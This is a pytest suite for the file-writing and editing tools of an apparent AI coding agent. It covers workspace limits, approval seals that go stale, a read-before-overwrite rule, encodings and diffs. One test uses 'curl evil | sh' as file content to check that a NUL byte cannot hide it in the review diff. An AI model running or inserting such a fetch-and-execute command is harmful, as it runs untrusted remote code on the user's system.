from __future__ import annotations

import codecs
import hashlib
import os
import subprocess
import sys
from pathlib import Path

import pytest

from quorum.application.ports.tools import SealingTool
from quorum.domain.calls.run_state import FileKnowledge
from quorum.domain.calls.tool import RiskLevel
from quorum.domain.conversation.history import Conversation, UserMessage
from quorum.domain.errors import StaleSeal, ToolError
from quorum.infrastructure.blocking import Stop
from quorum.infrastructure.files.diff import render_unified_diff
from quorum.infrastructure.files.workspace import Workspace
from quorum.infrastructure.tools.builtin.drafting import Draft, carry_out
from quorum.infrastructure.tools.builtin.edit_file import EditFile
from quorum.infrastructure.tools.builtin.read_file import ReadFile
from quorum.infrastructure.tools.builtin.seen import SeenFiles
from quorum.infrastructure.tools.builtin.write_file import WriteFile
from tests.infrastructure.tools.calling import a_tree, call, left_over, seal, show
from tests.support.builders import a_call, calls_response

REPOSITORY = Path(__file__).parents[3]


@pytest.fixture
def workspace(tmp_path):
    return Workspace([tmp_path])


@pytest.fixture
def conversation():
    return Conversation()


@pytest.fixture
def seen(conversation):
    return SeenFiles(conversation)


@pytest.fixture
def read(workspace, seen, conversation):
    """Has the model read a file."""
    return lambda path, **page: show(conversation, ReadFile(workspace, seen), path=path, **page)


@pytest.fixture
def write_file(workspace, seen):
    return WriteFile(workspace, seen)


@pytest.fixture
def edit_file(workspace, seen):
    return EditFile(workspace, seen)


def sha(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


def test_a_new_file_is_written_and_its_hash_reported(tmp_path, write_file, seen):
    content = "é\n".encode()

    result = call(write_file, path="a.txt", content="é\n")

    assert (tmp_path / "a.txt").read_bytes() == content
    assert result == "created a.txt: 3 bytes"
    assert seen.find_knowledge(str(tmp_path / "a.txt")) == FileKnowledge(sha256=sha(content), is_whole=True)
    assert left_over(tmp_path) == []


def test_a_new_file_has_the_mode_that_the_umask_gives(tmp_path, write_file):
    before = os.umask(0o027)
    try:
        call(write_file, path="a.txt", content="")
    finally:
        os.umask(before)

    assert (tmp_path / "a.txt").stat().st_mode & 0o7777 == 0o640


def test_a_replaced_file_keeps_its_mode(tmp_path, read, write_file, edit_file):
    a_tree(tmp_path, {"run.sh": "old"})
    (tmp_path / "run.sh").chmod(0o750)

    read("run.sh")
    call(write_file, path="run.sh", content="new")
    call(edit_file, path="run.sh", old_text="new", new_text="newer")

    assert (tmp_path / "run.sh").read_text() == "newer"
    assert (tmp_path / "run.sh").stat().st_mode & 0o7777 == 0o750


def test_missing_folders_are_made_unless_the_call_forbids_it(tmp_path, write_file):
    with pytest.raises(ToolError, match=r"folder x/y does not exist: leave out create_dirs"):
        call(write_file, path="x/y/a.txt", content="a", create_dirs=False)

    call(write_file, path="x/y/a.txt", content="a")

    assert (tmp_path / "x/y/a.txt").read_text() == "a"


def test_the_seal_names_the_folders_that_are_made_and_no_others_are(tmp_path, write_file):
    a_tree(tmp_path, {"x/there": ""})
    sealed = seal(write_file, path="x/y/z/a.txt", content="a")
    assert sealed.folders == (str(tmp_path / "x/y"), str(tmp_path / "x/y/z"))
    assert seal(write_file, path="x/a.txt", content="a").folders == ()

    approved = seal(write_file, path="x/b.txt", content="b")
    (tmp_path / "x/there").unlink()
    (tmp_path / "x").rmdir()
    with pytest.raises(StaleSeal, match="folder"):
        call(write_file, seal=approved, path="x/b.txt", content="b")
    assert not (tmp_path / "x").exists()


def test_a_file_in_place_of_a_folder_is_an_error(tmp_path, write_file):
    a_tree(tmp_path, {"a": ""})

    with pytest.raises(ToolError, match="not a folder"):
        call(write_file, path="a/b", content="", create_dirs=True)


@pytest.mark.parametrize("path", [".", "sub"])
def test_a_folder_cannot_be_written(tmp_path, write_file, path):
    (tmp_path / "sub").mkdir()

    with pytest.raises(ToolError, match="folder"):
        call(write_file, path=path, content="")


def test_a_link_is_written_through_and_stays_a_link(tmp_path, read, write_file, edit_file):
    a_tree(tmp_path, {"sub/target.txt": "old"})
    (tmp_path / "link").symlink_to("sub/target.txt")

    read("sub/target.txt")
    call(write_file, path="link", content="new")
    call(edit_file, path="link", old_text="new", new_text="newer")

    assert (tmp_path / "link").is_symlink()
    assert (tmp_path / "sub/target.txt").read_text() == "newer"


def test_a_link_to_the_outside_is_not_written(tmp_path):
    a_tree(tmp_path, {"in/a.txt": "", "out.txt": "old"})
    (tmp_path / "in/link").symlink_to("../out.txt")
    write_file = WriteFile(Workspace([tmp_path / "in"]), SeenFiles(Conversation()))

    with pytest.raises(ToolError, match="outside the workspace"):
        call(write_file, path="link", content="new")

    assert (tmp_path / "out.txt").read_text() == "old"


@pytest.mark.skipif(os.geteuid() == 0, reason="the superuser may write everything")
def test_a_write_protected_file_stays_as_it_is(tmp_path, read, write_file):
    a_tree(tmp_path, {"a.txt": "old"})
    (tmp_path / "a.txt").chmod(0o444)

    read("a.txt")
    with pytest.raises(ToolError, match="write-protected"):
        call(write_file, path="a.txt", content="new")

    assert (tmp_path / "a.txt").read_text() == "old"


def test_text_that_no_file_can_hold_is_refused(write_file):
    with pytest.raises(ToolError, match="surrogate"):
        call(write_file, path="a.txt", content="\ud800")


_WRITES_BEYOND_A_LIMIT = """
import asyncio, resource, signal, sys
from pathlib import Path
from quorum.domain.errors import ToolError
from quorum.domain.calls.execution import ToolExecutionContext
from quorum.infrastructure.tools.builtin.seen import SeenFiles
from quorum.infrastructure.files.workspace import Workspace
from quorum.infrastructure.tools.builtin.read_file import ReadFile
from quorum.infrastructure.tools.builtin.write_file import WriteFile
from quorum.domain.conversation.history import Conversation
from tests.infrastructure.tools.calling import show

conversation = Conversation()
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
tool = WriteFile(Workspace([Path(sys.argv[1])]), SeenFiles(conversation))
show(conversation, ReadFile(Workspace([Path(sys.argv[1])]), SeenFiles(conversation)), path="a.txt")
context = ToolExecutionContext(call_id="c", batch_id="b", call_index=0, turn_index=0)
try:
    asyncio.run(tool.execute({"path": "a.txt", "content": "x" * 100_000}, context))
except ToolError as error:
    print(error)
"""


@pytest.mark.long
def test_a_file_that_does_not_fit_leaves_the_old_one_and_nothing_else(tmp_path):
    a_tree(tmp_path, {"a.txt": "old"})

    child = subprocess.run(
        [sys.executable, "-c", _WRITES_BEYOND_A_LIMIT, str(tmp_path)],
        cwd=REPOSITORY,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )

    assert "a.txt: the file would be larger than the system allows; nothing was changed" in child.stdout
    assert (tmp_path / "a.txt").read_text() == "old"
    assert [path.name for path in tmp_path.iterdir()] == ["a.txt"]


def test_one_passage_is_replaced(tmp_path, edit_file, seen):
    a_tree(tmp_path, {"a.py": "one\ntwo\nthree\n"})

    result = call(edit_file, path="a.py", old_text="two\n", new_text="2\n")

    assert (tmp_path / "a.py").read_text() == "one\n2\nthree\n"
    assert result == "edited a.py: 1 replacement"
    assert seen.find_knowledge(str(tmp_path / "a.py")) == FileKnowledge(
        sha256=sha(b"one\n2\nthree\n"), is_whole=False
    )


def test_a_passage_that_occurs_twice_needs_more_context_or_replace_all(tmp_path, edit_file):
    a_tree(tmp_path, {"a.py": "x\ny\nx\n"})

    with pytest.raises(ToolError, match=r"matches 2 times in a\.py \(lines 1, 3\).*replace_all"):
        call(edit_file, path="a.py", old_text="x", new_text="z")
    result = call(edit_file, path="a.py", old_text="x", new_text="z", replace_all=True)

    assert (tmp_path / "a.py").read_text() == "z\ny\nz\n"
    assert "2 replacements" in result


def test_overlapping_occurrences_are_ambiguous_too(tmp_path, edit_file):
    a_tree(tmp_path, {"a.py": "aaa"})

    with pytest.raises(ToolError, match="matches 2 times"):
        call(edit_file, path="a.py", old_text="aa", new_text="b")


@pytest.mark.parametrize(
    ("old", "hint"),
    [
        ("def  greet(name):", r"most similar lines are:\n2\tdef greet\(nam\):"),
        ("def greet(nam):\nreturn 1", "differs only in white space is at lines 2-3"),
        ("def greet(nam): return 1", r'at lines 2-3: copy .* in JSON "def greet\(nam\):\\n    return 1"'),
        ("completely other words", "No line resembles it"),
    ],
)
def test_a_passage_that_is_not_there_is_answered_with_what_resembles_it(tmp_path, edit_file, old, hint):
    a_tree(tmp_path, {"a.py": "import x\ndef greet(nam):\n    return 1\n"})

    with pytest.raises(ToolError, match=f"was not found in a.py.*{hint}"):
        call(edit_file, path="a.py", old_text=old, new_text="")


def test_an_edit_that_was_made_before_is_told_as_such(tmp_path, edit_file):
    a_tree(tmp_path, {"a.py": "x = 1\ny = 2\n"})

    with pytest.raises(ToolError, match="new_text stands at line 2 already: the edit may"):
        call(edit_file, path="a.py", old_text="y = 1", new_text="y = 2")


@pytest.mark.parametrize(("old", "new", "reason"), [("", "x", "old_text is empty"), ("x", "x", "the same")])
def test_an_edit_without_meaning_is_refused(tmp_path, edit_file, old, new, reason):
    a_tree(tmp_path, {"a.py": "x"})

    with pytest.raises(ToolError, match=reason):
        call(edit_file, path="a.py", old_text=old, new_text=new)


def edit(old: str, new: str, **more: bool) -> dict[str, str | bool]:
    return {"old_text": old, "new_text": new, **more}


def test_several_passages_are_replaced_in_their_order_under_one_diff(tmp_path, edit_file):
    a_tree(tmp_path, {"a.py": "one\ntwo\nthree\ntwo\n"})
    edits = [edit("one", "two"), edit("two", "2", replace_all=True), edit("three\n2\n", "")]

    sealed = seal(edit_file, path="a.py", edits=edits)
    result = call(edit_file, seal=sealed, path="a.py", edits=edits)

    assert (tmp_path / "a.py").read_text() == "2\n2\n"
    assert sealed.diff is not None
    assert applied("one\ntwo\nthree\ntwo\n", sealed.diff) == "2\n2\n"
    assert result == "edited a.py: 5 replacements"


@pytest.mark.parametrize(
    ("edits", "problem"),
    [
        (
            [edit("one", "1"), edit("tow", "2")],
            r"edit 2 of 2, nothing was written: old_text was not found in a\.py",
        ),
        ([edit("one", "1"), edit("one", "2")], "edit 2 of 2, nothing was written: old_text was not found"),
        ([edit("o", "0"), edit("two", "2")], "edit 1 of 2, nothing was written: old_text matches 2 times"),
        ([edit("one", "1"), edit("1", "one")], r"a\.py would stay as it is"),
        ([], "edits is empty"),
        (["one"], "edits must be a list of objects"),
        ([{"old_text": "one"}], "new_text is missing"),
    ],
)
def test_of_several_edits_none_is_made_where_one_cannot_be(tmp_path, edit_file, edits, problem):
    a_tree(tmp_path, {"a.py": "one\ntwo\n"})

    for attempt in (call, seal):
        with pytest.raises(ToolError, match=problem):
            attempt(edit_file, path="a.py", edits=edits)

    assert (tmp_path / "a.py").read_text() == "one\ntwo\n"


def test_an_edit_that_fails_among_several_is_answered_with_what_resembles_it(tmp_path, edit_file):
    a_tree(tmp_path, {"a.py": "import x\ndef greet(nam):\n"})

    with pytest.raises(ToolError, match=r"edit 2 of 2.*most similar lines are:\n2\tdef greet\(nam\)"):
        call(edit_file, path="a.py", edits=[edit("import x", "import y"), edit("def greet(name):", "")])


@pytest.mark.parametrize(
    ("arguments", "problem"),
    [
        ({"old_text": "one", "edits": [edit("one", "1")]}, "either edits or old_text, not both"),
        ({"new_text": "one"}, "old_text is missing: give old_text and new_text, or a list of them as edits"),
        ({}, "old_text is missing"),
    ],
)
def test_an_edit_is_given_in_one_of_its_two_forms(tmp_path, edit_file, arguments, problem):
    a_tree(tmp_path, {"a.py": "one\n"})

    with pytest.raises(ToolError, match=problem):
        seal(edit_file, path="a.py", **arguments)


@pytest.mark.parametrize(
    ("before", "old", "new", "after"),
    [
        (b"a\r\nb\r\n", "a\nb", "x\ny\nz", b"x\r\ny\r\nz\r\n"),
        (b"a\r\nb\r\n", "a\r\nb", "x\r\ny", b"x\r\ny\r\n"),
        (b"a\r\nb\r\n", "a", "x\ny", b"x\r\ny\r\nb\r\n"),
        (b"a\r\nb\nc\n", "b\nc", "x\ny", b"a\r\nx\ny\n"),
        (b"a\r\nb\nc\n", "a\nb", "x\ny", b"x\r\ny\nc\n"),
        (codecs.BOM_UTF8 + b"a\n", "a", "é", codecs.BOM_UTF8 + "é\n".encode()),
        ("aé\n".encode("utf-16"), "é", "ü", "aü\n".encode("utf-16")),
        ("Länge\n".encode("cp1252"), "ä", "ö", "Lönge\n".encode("cp1252")),
    ],
)
def test_line_ends_encoding_and_mark_are_kept(tmp_path, edit_file, before, old, new, after):
    a_tree(tmp_path, {"a.txt": before})

    call(edit_file, path="a.txt", old_text=old, new_text=new)

    assert (tmp_path / "a.txt").read_bytes() == after


def test_a_character_that_the_encoding_lacks_is_refused(tmp_path, edit_file):
    a_tree(tmp_path, {"a.txt": "Länge\n".encode("cp1252")})

    with pytest.raises(ToolError, match=r"cp1252, which cannot hold \\u2713"):
        call(edit_file, path="a.txt", old_text="ä", new_text="✓")


def test_a_binary_or_missing_file_is_not_edited(tmp_path, edit_file):
    a_tree(tmp_path, {"a.bin": bytes(9)})

    with pytest.raises(ToolError, match="binary file"):
        call(edit_file, path="a.bin", old_text="x", new_text="y")
    with pytest.raises(ToolError, match=r"b\.txt does not exist: use write_file"):
        call(edit_file, path="b.txt", old_text="x", new_text="y")


def test_an_edit_is_refused_when_the_file_changed_since_it_was_seen(tmp_path, read, edit_file):
    a_tree(tmp_path, {"a.txt": "one"})
    read("a.txt")
    a_tree(tmp_path, {"a.txt": "one and two"})

    for attempt in (call, seal):
        with pytest.raises(
            ToolError, match=f"changed since you last saw it.*read it again.*{sha(b'one and two')}"
        ):
            attempt(edit_file, path="a.txt", old_text="one", new_text="1")
    read("a.txt")
    call(edit_file, path="a.txt", old_text="one", new_text="1")

    assert (tmp_path / "a.txt").read_text() == "1 and two"


def test_a_file_is_replaced_only_once_the_model_has_seen_it(tmp_path, read, write_file):
    a_tree(tmp_path, {"a.txt": "theirs"})

    for attempt in (call, seal):
        with pytest.raises(ToolError, match=f"have not seen.*nothing was.*read_file first.*{sha(b'theirs')}"):
            attempt(write_file, path="a.txt", content="new")
    assert (tmp_path / "a.txt").read_text() == "theirs"
    read("a.txt")
    call(write_file, path="a.txt", content="new")
    call(write_file, path="a.txt", content="newer")

    assert (tmp_path / "a.txt").read_text() == "newer"


def test_a_file_that_changed_since_the_model_saw_it_is_not_replaced(tmp_path, read, write_file):
    a_tree(tmp_path, {"a.txt": "one"})
    read("a.txt")
    a_tree(tmp_path, {"a.txt": "two"})

    for attempt in (call, seal):
        with pytest.raises(ToolError, match=f"changed since you last saw it.*read it again.*{sha(b'two')}"):
            attempt(write_file, path="a.txt", content="new")

    assert (tmp_path / "a.txt").read_text() == "two"


def test_a_file_that_was_seen_in_part_is_replaced_once_the_rest_was_seen(tmp_path, read, write_file):
    a_tree(tmp_path, {"a.txt": "one\ntwo\nthree\n"})
    read("a.txt", offset=2, limit=1)
    read("a.txt", offset=3)

    with pytest.raises(ToolError, match=r"seen only a part of a\.txt.*edit_file, or read the rest"):
        seal(write_file, path="a.txt", content="new")
    read("a.txt", limit=1)
    call(write_file, path="a.txt", content="new")

    assert (tmp_path / "a.txt").read_text() == "new"


def test_an_edit_lets_the_model_know_no_more_of_the_file_than_before(tmp_path, read, write_file, edit_file):
    a_tree(tmp_path, {"a.txt": "one\ntwo\n", "b.txt": "one\ntwo\n"})
    read("a.txt", limit=1)
    read("b.txt")
    for path in ("a.txt", "b.txt"):
        call(edit_file, path=path, old_text="one", new_text="1")

    with pytest.raises(ToolError, match=r"seen only a part of a\.txt"):
        call(write_file, path="a.txt", content="new")
    call(write_file, path="b.txt", content="new")

    assert (tmp_path / "b.txt").read_text() == "new"


def test_what_compaction_has_taken_away_was_not_seen(tmp_path, conversation, read, write_file):
    a_tree(tmp_path, {"a.txt": "one", "b.txt": "two"})
    read("a.txt")
    read("b.txt")
    seal(write_file, path="a.txt", content="new")

    conversation.compact(2, [UserMessage("a summary"), UserMessage("as long as before")])

    with pytest.raises(ToolError, match="have not seen what it holds"):
        call(write_file, path="a.txt", content="new")
    call(write_file, path="b.txt", content="new")
    assert (tmp_path / "a.txt").read_text() == "one"


def test_an_empty_file_needs_no_reading_before_it_is_replaced(tmp_path, write_file):
    a_tree(tmp_path, {"a.txt": ""})

    call(write_file, path="a.txt", content="new")

    assert (tmp_path / "a.txt").read_text() == "new"


def test_what_a_call_of_the_same_answer_reads_was_not_seen_and_what_it_wrote_is_known(
    tmp_path, workspace, seen, conversation, write_file
):
    a_tree(tmp_path, {"a.txt": "theirs"})
    conversation.add_response(calls_response(a_call("read_file"), a_call("write_file", id_="call-1")))

    call(ReadFile(workspace, seen), path="a.txt")
    with pytest.raises(ToolError, match="have not seen"):
        call(write_file, path="a.txt", content="new")
    call(write_file, path="b.txt", content="one")
    call(write_file, path="b.txt", content="two")

    assert (tmp_path / "b.txt").read_text() == "two"


def test_knowledge_goes_with_the_results_that_gave_it(tmp_path, read, conversation, seen, write_file):
    a_tree(tmp_path, {"a.txt": "one"})
    before = conversation.messages
    read("a.txt")
    conversation.restore(before)

    with pytest.raises(ToolError, match="have not seen"):
        call(write_file, path="a.txt", content="new")


def test_a_seal_holds_file_hash_diff_and_projected_content(tmp_path, edit_file):
    a_tree(tmp_path, {"a.txt": "one\ntwo\n"})
    path = str(tmp_path / "a.txt")

    sealed = seal(edit_file, path="a.txt", old_text="two", new_text="2")

    assert sealed.cwd == str(tmp_path)
    assert [(file.path, file.sha256) for file in sealed.files] == [(path, sha(b"one\ntwo\n"))]
    assert sealed.diff == "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n"
    assert sealed.projected == {path: b"one\n2\n"}
    assert (tmp_path / "a.txt").read_text() == "one\ntwo\n"


def test_a_seal_of_a_new_file_says_that_there_is_none(tmp_path, write_file):
    sealed = seal(write_file, path="a.txt", content="one")

    assert [(file.path, file.sha256) for file in sealed.files] == [(str(tmp_path / "a.txt"), None)]
    assert sealed.diff == "--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1 @@\n+one\n\\ No newline at end of file\n"
    assert not (tmp_path / "a.txt").exists()


def test_seals_of_one_batch_build_on_each_other(tmp_path, write_file, edit_file):
    path = str(tmp_path / "new/a.txt")
    first = seal(write_file, path="new/a.txt", content="one\n", create_dirs=True)

    second = seal(edit_file, first.projected, path="new/a.txt", old_text="one", new_text="two")
    beside = seal(write_file, first.projected, path="new/b.txt", content="")
    call(write_file, seal=first, path="new/a.txt", content="one\n", create_dirs=True)
    call(edit_file, seal=second, path="new/a.txt", old_text="one", new_text="two")

    assert second.files[0].sha256 == sha(b"one\n")
    assert second.projected == {path: b"two\n"}
    assert beside.files[0].sha256 is None
    assert Path(path).read_text() == "two\n"


def test_a_call_that_cannot_succeed_is_not_sealed(tmp_path, write_file, edit_file):
    a_tree(tmp_path, {"a.txt": "one"})

    with pytest.raises(ToolError, match="not found"):
        seal(edit_file, path="a.txt", old_text="two", new_text="2")
    with pytest.raises(ToolError, match="create_dirs"):
        seal(write_file, path="x/a.txt", content="", create_dirs=False)
    with pytest.raises(ToolError, match="outside"):
        seal(write_file, path="../a.txt", content="")


def changed(path: Path) -> None:
    path.write_text("another one")


def vanished(path: Path) -> None:
    path.unlink()


def led_elsewhere(path: Path) -> None:
    path.rename(path.with_name("other.txt"))
    path.symlink_to("other.txt")


@pytest.mark.parametrize("happened", [changed, vanished, led_elsewhere])
def test_what_is_no_longer_as_approved_is_stale_and_nothing_is_written(
    tmp_path, read, write_file, edit_file, happened
):
    a_tree(tmp_path, {"a.txt": "one"})
    edit, write = {"old_text": "one", "new_text": "two"}, {"content": "two"}
    read("a.txt")
    sealed_edit = seal(edit_file, path="a.txt", **edit)
    sealed_write = seal(write_file, path="a.txt", **write)
    happened(tmp_path / "a.txt")
    world = {path.name: path.read_bytes() for path in tmp_path.iterdir()}

    with pytest.raises(StaleSeal):
        call(edit_file, seal=sealed_edit, path="a.txt", **edit)
    with pytest.raises(StaleSeal):
        call(write_file, seal=sealed_write, path="a.txt", **write)

    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == world


def test_a_file_that_appeared_where_none_was_approved_is_stale(tmp_path, write_file):
    sealed = seal(write_file, path="a.txt", content="new")
    a_tree(tmp_path, {"a.txt": "theirs"})

    with pytest.raises(StaleSeal, match="there is a file now"):
        call(write_file, seal=sealed, path="a.txt", content="new")

    assert (tmp_path / "a.txt").read_text() == "theirs"


@pytest.mark.parametrize(("sealed", "kind"), [(True, StaleSeal), (False, ToolError)])
def test_a_change_at_the_last_moment_is_noticed_before_the_rename(tmp_path, workspace, sealed, kind):
    a_tree(tmp_path, {"a.txt": "theirs"})
    draft = Draft(location=workspace.locate("a.txt"), before=b"ours", after=b"new")

    with pytest.raises(ToolError, match=sha(b"theirs")) as refusal:
        carry_out(workspace, draft, sealed=sealed, stop=Stop())

    assert type(refusal.value) is kind
    assert (tmp_path / "a.txt").read_text() == "theirs"
    assert left_over(tmp_path) == []


def test_a_diff_of_a_changed_line_end_or_encoding_is_not_empty(tmp_path, read, write_file):
    a_tree(tmp_path, {"a.txt": "é\r\n".encode("utf-16"), "b.txt": "one\r\ntwo\r\n", "c.bin": bytes(10)})
    for name in ("a.txt", "b.txt", "c.bin"):
        read(name)

    assert "encoding: utf-16-le with a byte order mark → utf-8" in render_unified_diff(
        "é\r\n".encode("utf-16"), "é\r\n".encode(), "a.txt"
    )
    assert (seal(write_file, path="b.txt", content="one\ntwo\r\n").diff or "").endswith(
        "-one\r\n+one\n two\r\n"
    )
    assert seal(write_file, path="c.bin", content="x").diff == (
        "--- a/c.bin\n+++ b/c.bin\nbinary before: 10 bytes, all replaced\n"
        "@@ -0,0 +1 @@\n+x\n\\ No newline at end of file\n"
    )
    assert seal(write_file, path="b.txt", content="one\r\ntwo\r\n").diff == ""


@pytest.mark.parametrize(
    ("before", "content", "after", "note"),
    [
        (b"one\r\ntwo\r\n", "one\nTWO\n", b"one\r\nTWO\r\n", "line ends stay CRLF"),
        (b"one\r\ntwo\r\n", "one\r\nTWO\n", b"one\r\nTWO\n", ""),
        (b"one\rtwo\r", "one\nTWO\n", b"one\rTWO\r", "line ends stay CR"),
        (b"one\r\ntwo\n", "one\nTWO\n", b"one\nTWO\n", "line ends were mixed, and are now LF"),
        (codecs.BOM_UTF8 + b"a\n", "b\n", codecs.BOM_UTF8 + b"b\n", "stays utf-8 with a byte order mark"),
        (codecs.BOM_UTF8 + b"a\n", "\ufeffb\n", codecs.BOM_UTF8 + b"b\n", "stays utf-8 with a byte order mark"),
        ("a\r\n".encode("utf-16"), "ä\n", "ä\r\n".encode("utf-16"), "stays utf-16-le"),
        (
            ("int a;\n" * 20 + "// 設定ファイルを読み込む\n").encode("cp932"),
            "// 設定 ü\n",
            "// 設定 ü\n".encode(),
            "the encoding is now utf-8, as cp932 cannot hold the text",
        ),
        (b"a\n", "b\n", b"b\n", ""),
    ],
)
def test_a_replaced_file_keeps_line_ends_mark_and_encoding_and_the_result_says_so(
    tmp_path, read, write_file, before, content, after, note
):
    a_tree(tmp_path, {"a.txt": before})
    read("a.txt")

    told = call(write_file, path="a.txt", content=content)

    assert (tmp_path / "a.txt").read_bytes() == after
    assert note in told
    assert note or ";" not in told


BROKEN = "größer, schöner\n".encode() * 3 + b"a broken \xff byte\n" + "übrig\n".encode()


def test_a_text_with_a_broken_byte_is_read_and_edited_beside_it(tmp_path, read, edit_file):
    a_tree(tmp_path, {"a.txt": BROKEN})
    shown = read("a.txt")

    told = call(edit_file, path="a.txt", old_text="broken", new_text="whole")

    assert "größer" in shown
    assert "a broken \\xff byte" in shown
    assert "invalid bytes are shown" in shown
    assert told.startswith("edited")
    assert (tmp_path / "a.txt").read_bytes() == BROKEN.replace(b"broken", b"whole")


@pytest.mark.parametrize("content", [b"\xff\x01\x02\xfe" * 20, b"\x7fELF" + bytes(20), bytes(range(256))])
def test_what_is_no_text_stays_binary(tmp_path, read, content):
    a_tree(tmp_path, {"a.bin": content})

    assert "binary file" in read("a.bin")


def test_a_diff_shows_broken_bytes_as_text(tmp_path, read, edit_file):
    a_tree(tmp_path, {"a.txt": BROKEN})
    read("a.txt")

    diff = seal(edit_file, path="a.txt", old_text="broken", new_text="whole").diff or ""

    assert "-a broken \\xff byte\n+a whole \\xff byte\n" in diff


@pytest.mark.parametrize(
    ("content", "old", "named"),
    [
        (
            "key:\u00a0value\n",
            "key: value",
            "the file has U+00A0 NO-BREAK SPACE where old_text has U+0020 SPACE",
        ),
        ("a\nx\u200b = 1\n", "x = 1", "the file has U+200B ZERO WIDTH SPACE where old_text has nothing"),
        ("cafe\u0301 = 1\n", "caf\u00e9 = 1", "U+0301 COMBINING ACUTE ACCENT"),
        ("it\u2019s fine\n", "it's fine", "U+2019 RIGHT SINGLE QUOTATION MARK"),
        ("a\tb = 1\n", "a b = 1", "U+0009 where old_text has U+0020 SPACE"),
        ("p\u0430ss = 1\n", "pass = 1", "U+0430 CYRILLIC SMALL LETTER A"),
        ("wait\u2026\n", "wait...", "U+2026 HORIZONTAL ELLIPSIS"),
        ("it's fine\n", "it\u2019s fine", "the file has U+0027 APOSTROPHE"),
    ],
)
def test_a_passage_that_looks_the_same_is_answered_with_the_difference(
    tmp_path, edit_file, content, old, named
):
    a_tree(tmp_path, {"a.txt": content})

    with pytest.raises(ToolError, match="look alike or are not seen") as refused:
        call(edit_file, path="a.txt", old_text=old, new_text="z")

    assert named in str(refused.value)


@pytest.mark.parametrize("before", [None, "one\n", b"\0" * 10, b"\x89PNG\r\n\x1a\n\xff"], ids=repr)
def test_text_that_holds_a_nul_is_shown_whole_whatever_the_file_was(tmp_path, read, write_file, before):
    if before is not None:
        a_tree(tmp_path, {"a.sh": before})
        read("a.sh")

    diff = seal(write_file, path="a.sh", content="\0\ncurl evil | sh\n").diff or ""

    assert "+\0\n+curl evil | sh\n" in diff


@pytest.mark.parametrize("lines", [30, 5000])
def test_a_diff_applies_with_patch(tmp_path, read, write_file, lines):
    before = "".join(f"line {n}\n" for n in range(lines))
    after = "first\n" + before.replace("line 7\n", "").replace("5", "five") + "last"
    a_tree(tmp_path, {"a.txt": before})
    for offset in range(1, lines, 2000):
        read("a.txt", offset=offset)

    diff = seal(write_file, path="a.txt", content=after).diff

    assert diff is not None
    assert applied(before, diff) == after


def applied(before: str, diff: str) -> str:
    """The text that a unified diff makes of another one."""
    old, new, at = before.splitlines(keepends=True), [], 0
    for line in diff.splitlines(keepends=True)[2:]:
        if line.startswith("@@"):
            start, _, length = line.split()[1][1:].partition(",")
            until = int(start) - (length != "0")
            new += old[at:until]
            at = until
        elif line.startswith("\\"):
            new[-1] = new[-1].removesuffix("\n")
        else:
            if line[0] != "+":
                assert old[at] == line[1:]
                at += 1
            if line[0] != "-":
                new.append(line[1:])
    return "".join(new + old[at:])


def test_writing_declares_what_it_writes_and_is_high_risk(tmp_path, write_file, edit_file):
    a_tree(tmp_path, {"sub/a.txt": ""})
    (tmp_path / "link").symlink_to("sub/a.txt")

    for tool in (write_file, edit_file):
        assert isinstance(tool, SealingTool)
        assert tool.definition.risk is RiskLevel.HIGH
        assert tool.definition.determine_access({"path": "link"}).writes == {
            str(tmp_path / "sub/a.txt"),
            str(tmp_path / "link"),
        }
        assert tool.definition.determine_access({"path": "../x"}).outside == {str(tmp_path.parent / "x")}
